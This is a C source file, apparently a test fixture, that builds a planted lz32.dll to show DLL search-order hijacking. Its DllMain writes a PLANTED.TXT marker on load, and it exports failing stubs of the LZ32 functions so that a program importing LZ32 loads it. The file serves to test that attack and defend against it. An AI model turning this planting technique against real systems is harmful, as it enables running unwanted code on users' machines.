/* plant.c: the DLL planted beside the stub as lz32.dll, as an attacker would
 * plant it in a downloads folder. Loading it leaves PLANTED.TXT in its own
 * folder; it offers the LZ32 functions, so that a program importing LZ32
 * by name starts with it loaded, and every one of them fails. */
#include <windows.h>

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)reserved;
    if (reason != DLL_PROCESS_ATTACH)
        return TRUE;
    char path[MAX_PATH];
    DWORD n = GetModuleFileNameA(inst, path, MAX_PATH);
    while (n > 0 && path[n - 1] != '\\')
        n--;
    lstrcpyA(path + n, "PLANTED.TXT");
    HANDLE h = CreateFileA(path, GENERIC_WRITE, 0, 0, CREATE_ALWAYS, 0, 0);
    if (h != INVALID_HANDLE_VALUE) {
        DWORD done;
        WriteFile(h, "planted lz32.dll was loaded\r\n", 29, &done, 0);
        CloseHandle(h);
    }
    return TRUE;
}

__declspec(dllexport) INT WINAPI LZOpenFileA(LPSTR name, LPOFSTRUCT ofs, WORD style)
{
    (void)name; (void)ofs; (void)style;
    return -1;
}

__declspec(dllexport) LONG WINAPI CopyLZFile(INT src, INT dst)
{
    (void)src; (void)dst;
    return -1;
}

__declspec(dllexport) void WINAPI LZClose(INT f)
{
    (void)f;
}

__declspec(dllexport) void WINAPI LZDone(void)
{
}
